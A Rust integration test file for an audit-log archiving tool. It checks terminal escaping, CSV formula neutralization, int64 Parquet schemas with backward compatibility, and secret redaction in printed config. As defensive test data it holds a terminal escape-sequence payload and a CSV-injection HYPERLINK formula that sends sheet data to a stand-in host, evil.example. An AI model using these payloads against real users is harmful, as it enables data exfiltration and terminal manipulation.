//! What the analyst's commands print, with log content written by an attacker: tables and
//! messages escape what a terminal acts on, CSV neutralizes what a spreadsheet evaluates, JSON
//! and Parquet stay exact. And the archive's integer columns are signed 64-bit for every engine,
//! with objects of schema version 1 (unsigned) still read beside new ones.

mod util;

use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use util::*;

/// A user name that sets the terminal's title and turns the text red when printed raw.
const TERMINAL_HOSTILE: &str = "\x1b]0;pwned\x07\x1b[31mred\u{202e}";
/// A user name that a spreadsheet turns into a link sending the sheet's data away.
const CSV_HOSTILE: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

/// Writes a log with one failed login per hostile user name (and one ordinary one), archives
/// it into `dir/archive` and returns the config's path.
fn archive_hostile(dir: &Path) -> PathBuf {
    let logs = dir.join("logs");
    std::fs::create_dir_all(&logs).unwrap();
    let mut text = String::new();
    for (i, actor) in [TERMINAL_HOSTILE, CSV_HOSTILE, "alice"].iter().enumerate() {
        let line = json!({
            "id": format!("evt-{i}"),
            "time": format!("2026-11-20T08:0{i}:00Z"),
            "action": "authentication.login",
            "outcome": "failure",
            "reason": "-2+3",
            "actor": {"id": actor, "name": actor},
            "src_ip": "203.0.113.5",
        });
        text.push_str(&line.to_string());
        text.push('\n');
    }
    std::fs::write(logs.join("app.jsonl"), text).unwrap();
    let config = dir.join("config.toml");
    std::fs::write(
        &config,
        format!(
            r#"
[agent]
state_dir = "{d}/state"

[archive]
url = "{d}/archive"

[[sources]]
name = "app"
paths = ["{d}/logs/app.jsonl"]
profile = "auditlake-json"

[[tiers]]
name = "standard"
retention_days = 365
"#,
            d = dir.display()
        ),
    )
    .unwrap();
    run_ok(
        auditlake()
            .args(["agent", "--once", "--config"])
            .arg(&config),
    );
    config
}

/// The stdout of a command run in `dir`, tables as wide as they like.
fn stdout(dir: &Path, args: &[&str]) -> Vec<u8> {
    run_ok(
        auditlake()
            .args(args)
            .current_dir(dir)
            .env("COLUMNS", "400"),
    )
    .stdout
}

/// The Parquet objects under `dir`, sorted.
fn parquet_files(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                todo.push(p);
            } else if p.extension().is_some_and(|x| x == "parquet") {
                out.push(p);
            }
        }
    }
    out.sort();
    out
}

/// Whether `bytes` hold a character a terminal acts on: ESC, BEL, other C0 controls but the
/// newline, DEL, a C1 control or a bidi override.
fn has_terminal_controls(bytes: &[u8]) -> bool {
    String::from_utf8_lossy(bytes)
        .chars()
        .any(|c| c != '\n' && auditlake_query::escape::is_unsafe_for_terminal(c))
}

/// Parses CSV with Python's csv module: the rows as lists of strings.
fn python_csv(dir: &Path, file: &str) -> Vec<Vec<String>> {
    let v = python_json(
        dir,
        &format!(
            "import csv, json\nwith open({file:?}, newline='') as f:\n    print(json.dumps(list(csv.reader(f))))"
        ),
    );
    serde_json::from_value(v).unwrap()
}

fn column<'a>(rows: &'a [Vec<String>], name: &str) -> Vec<&'a str> {
    let i = rows[0].iter().position(|c| c == name).unwrap();
    rows[1..].iter().map(|r| r[i].as_str()).collect()
}

#[test]
fn hostile_user_names_are_escaped_for_terminals_and_neutralized_for_spreadsheets() {
    // A user name printed raw by `query --format table` ran escape sequences in the analyst's
    // terminal, and one exported raw into CSV became a live formula.
    let dir = tempfile::tempdir().unwrap();
    archive_hostile(dir.path());
    let d = dir.path();
    let base = ["--archive", "archive"];

    for args in [
        &["query", "--format", "table"][..],
        &["report", "activity", "--format", "table"],
        &[
            "report",
            "failed-logins",
            "--threshold",
            "1",
            "--format",
            "table",
        ],
        &["report", "last-login", "--format", "table"],
    ] {
        let out = stdout(d, &[args, &base].concat());
        assert!(!has_terminal_controls(&out), "{args:?}: {out:?}");
        let text = String::from_utf8(out).unwrap();
        assert!(text.contains("\\x1b]0;pwned\\x07"), "{args:?}:\n{text}");
    }

    // CSV: every string cell a spreadsheet would evaluate starts with a quote.
    std::fs::write(
        d.join("query.csv"),
        stdout(d, &[&["query", "--format", "csv"][..], &base].concat()),
    )
    .unwrap();
    run_ok(
        auditlake()
            .args(["export", "--format", "csv", "-o", "export.csv"])
            .args(base)
            .current_dir(d),
    );
    std::fs::write(
        d.join("report.csv"),
        stdout(
            d,
            &[&["report", "activity", "--format", "csv"][..], &base].concat(),
        ),
    )
    .unwrap();
    for (file, actor_col) in [
        ("query.csv", "actor_id"),
        ("export.csv", "actor_name"),
        ("report.csv", "actor_id"),
    ] {
        let rows = python_csv(d, file);
        let actors = column(&rows, actor_col);
        assert!(
            actors.contains(&format!("'{CSV_HOSTILE}").as_str()),
            "{file}: {actors:?}"
        );
        for row in &rows[1..] {
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '@', '\t', '\r']),
                    "{file}: {cell:?}"
                );
            }
        }
        if file != "report.csv" {
            assert_eq!(column(&rows, "reason"), ["'-2+3"; 3], "{file}");
            // A number is not a formula: seq stays a number.
            assert!(
                column(&rows, "seq")
                    .iter()
                    .all(|s| s.parse::<i64>().is_ok())
            );
        }
    }
    let raw = String::from_utf8(stdout(
        d,
        &[
            &["query", "--format", "csv", "--csv-formulas", "verbatim"][..],
            &base,
        ]
        .concat(),
    ))
    .unwrap();
    assert!(raw.contains("\"=HYPERLINK("), "{raw}");

    // JSON is exact.
    let json: Value = serde_json::from_slice(&stdout(
        d,
        &[&["query", "--format", "json", "--order", "asc"][..], &base].concat(),
    ))
    .unwrap();
    let actors: Vec<&str> = json
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["actor_id"].as_str().unwrap())
        .collect();
    assert_eq!(actors, [TERMINAL_HOSTILE, CSV_HOSTILE, "alice"]);
}

#[test]
fn error_messages_escape_the_values_they_quote() {
    let dir = tempfile::tempdir().unwrap();
    let out = auditlake()
        .args([
            "query",
            "--archive",
            "/nowhere/\x1b]0;pwned\x07",
            "--format",
            "csv",
        ])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(!has_terminal_controls(&out.stderr), "{:?}", out.stderr);
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.contains("/nowhere/\\x1b]0;pwned\\x07"), "{err}");
    drop(dir);
}

#[test]
fn seq_and_source_offset_are_int64_for_pyarrow_and_duckdb() {
    // Unsigned 64-bit columns came out of Spark and Trino as decimal(20,0).
    let dir = tempfile::tempdir().unwrap();
    archive_hostile(dir.path());
    let d = dir.path();
    run_ok(
        auditlake()
            .args(["export", "--format", "parquet", "-o", "out.parquet"])
            .args(["--archive", "archive"])
            .current_dir(d),
    );
    let got = python_json(
        d,
        r#"
import glob, json, duckdb, pyarrow.parquet as pq
files = sorted(glob.glob('archive/**/*.parquet', recursive=True)) + ['out.parquet']
types = sorted({str(pq.read_schema(f).field(c).type) for f in files for c in ('seq', 'source_offset')})
versions = sorted({pq.ParquetFile(f).metadata.metadata.get(b'auditlake.schema_version', b'').decode() for f in files[:-1]})
con = duckdb.connect()
duck = con.execute("select typeof(seq), typeof(source_offset), count(*), min(source_offset) >= 0 from read_parquet('archive/**/*.parquet', hive_partitioning=true) group by all").fetchall()
print(json.dumps({"types": types, "versions": versions, "duckdb": [list(r) for r in duck]}))
"#,
    );
    assert_eq!(got["types"], json!(["int64"]), "{got}");
    assert_eq!(got["versions"], json!(["2"]), "{got}");
    assert_eq!(
        got["duckdb"],
        json!([["BIGINT", "BIGINT", 3, true]]),
        "{got}"
    );
}

/// Rewrites the object at `path` as the build before schema version 2 wrote it: `seq` and
/// `source_offset` unsigned, the schema version 1.
fn rewrite_as_version_1(path: &Path) {
    use arrow::datatypes::{DataType, Field, Schema};
    use std::sync::Arc;
    let bytes = bytes::Bytes::from(std::fs::read(path).unwrap());
    let batches = auditlake_archive::decode_parquet(bytes).unwrap();
    let new = auditlake_event::arrow_schema();
    let old = Arc::new(Schema::new(
        new.fields()
            .iter()
            .map(|f| match f.name().as_str() {
                "seq" | "source_offset" => Field::new(f.name(), DataType::UInt64, f.is_nullable()),
                _ => f.as_ref().clone(),
            })
            .collect::<Vec<_>>(),
    ));
    let props = parquet::file::properties::WriterProperties::builder()
        .set_key_value_metadata(Some(vec![parquet::file::metadata::KeyValue::new(
            auditlake_event::SCHEMA_VERSION_KEY.to_string(),
            "1".to_string(),
        )]))
        .build();
    let mut out = Vec::new();
    let mut w = parquet::arrow::ArrowWriter::try_new(&mut out, old.clone(), Some(props)).unwrap();
    for b in batches {
        let cols = b
            .columns()
            .iter()
            .zip(old.fields())
            .map(|(c, f)| arrow::compute::cast(c, f.data_type()).unwrap())
            .collect();
        w.write(&arrow::array::RecordBatch::try_new(old.clone(), cols).unwrap())
            .unwrap();
    }
    w.close().unwrap();
    std::fs::write(path, out).unwrap();
}

#[test]
fn an_archive_with_a_version_1_object_still_queries_and_reports() {
    // Objects written before schema version 2 hold unsigned seq and source_offset.
    let dir = tempfile::tempdir().unwrap();
    let config = quickstart_config(dir.path());
    run_ok(
        auditlake()
            .args(["agent", "--once", "--config"])
            .arg(&config),
    );
    let d = dir.path();
    let query = |extra: &[&str]| -> Vec<Value> {
        let out = stdout(
            d,
            &[
                &[
                    "query",
                    "--archive",
                    "archive",
                    "--format",
                    "jsonl",
                    "--order",
                    "asc",
                    "--columns",
                    "event_id,seq,source_offset,source",
                ][..],
                extra,
            ]
            .concat(),
        );
        let mut rows: Vec<Value> = String::from_utf8(out)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        rows.sort_by_key(|r| r["event_id"].as_str().unwrap().to_string());
        rows
    };
    let before = query(&[]);
    let objects = parquet_files(&d.join("archive"));
    assert!(objects.len() >= 3);
    // Every other object goes back to version 1: old and new mix in every scan.
    for p in objects.iter().step_by(2) {
        rewrite_as_version_1(p);
    }
    let got = python_json(
        d,
        r#"
import glob, json, pyarrow.parquet as pq
files = sorted(glob.glob('archive/**/*.parquet', recursive=True))
print(json.dumps(sorted({(pq.ParquetFile(f).metadata.metadata[b'auditlake.schema_version'].decode(), str(pq.read_schema(f).field('seq').type)) for f in files})))
"#,
    );
    assert_eq!(got, json!([["1", "uint64"], ["2", "int64"]]), "{got}");

    assert_eq!(query(&[]), before);
    assert!(!query(&["--actor", "alice@example.com"]).is_empty());
    run_ok(
        auditlake()
            .args([
                "report",
                "activity",
                "--archive",
                "archive",
                "--format",
                "json",
            ])
            .current_dir(d),
    );
    // A Parquet export of the mixed archive is all signed.
    run_ok(
        auditlake()
            .args([
                "export",
                "--archive",
                "archive",
                "--format",
                "parquet",
                "-o",
                "mixed.parquet",
            ])
            .current_dir(d),
    );
    let types = python_json(
        d,
        "import json, pyarrow.parquet as pq\ns = pq.read_schema('mixed.parquet')\nprint(json.dumps([str(s.field('seq').type), str(s.field('source_offset').type), pq.read_metadata('mixed.parquet').num_rows]))",
    );
    assert_eq!(types, json!(["int64", "int64", before.len()]), "{types}");
}

#[test]
fn check_config_prints_the_resolved_config_with_secrets_redacted() {
    // check-config printed one line; the resolved config must never show a secret.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("config.toml");
    std::fs::write(
        &path,
        r#"
[archive]
url = "./archive"

[[sources]]
name = "idp"
paths = ["/var/log/app/*.jsonl"]
profile = "idp-json"

[[tiers]]
name = "standard"
retention_days = 365

[alerts]
[[alerts.webhooks]]
url = "http://127.0.0.1:9/hook"
token_env = "HOOK_TOKEN"
headers = { x-api-key = "header-s3cr3t", x-team = "sec-team-s3cr3t" }
"#,
    )
    .unwrap();
    let out = run_ok(
        auditlake()
            .args(["check-config", "--config"])
            .arg(&path)
            .env("HOOK_TOKEN", "token-s3cr3t")
            .env("AUDITLAKE_SIGNING_KEY", "0".repeat(64)),
    );
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        !text.contains("s3cr3t") && !text.contains(&"0".repeat(64)),
        "{text}"
    );
    assert!(text.contains("**redacted**"), "{text}");
    std::fs::write(dir.path().join("printed.toml"), &text).unwrap();
    let got = python_json(
        dir.path(),
        r#"
import json, tomllib
c = tomllib.load(open('printed.toml', 'rb'))
print(json.dumps({
  "headers": c["alerts"]["webhooks"][0]["headers"],
  "flush": c["agent"]["flush_interval_secs"],
  "digest": c["digest"]["digest_interval_secs"],
  "delete_batch": c["retention"]["delete_batch"],
  "max_attempts": c["alerts"]["webhooks"][0]["max_attempts"],
  "max_line_bytes": c["sources"][0]["max_line_bytes"],
}))
"#,
    );
    assert_eq!(
        got,
        json!({
            "headers": {"x-api-key": "**redacted**", "x-team": "**redacted**"},
            "flush": 60,
            "digest": 3600,
            "delete_batch": 1000,
            "max_attempts": 5,
            "max_line_bytes": 65536,
        })
    );
}
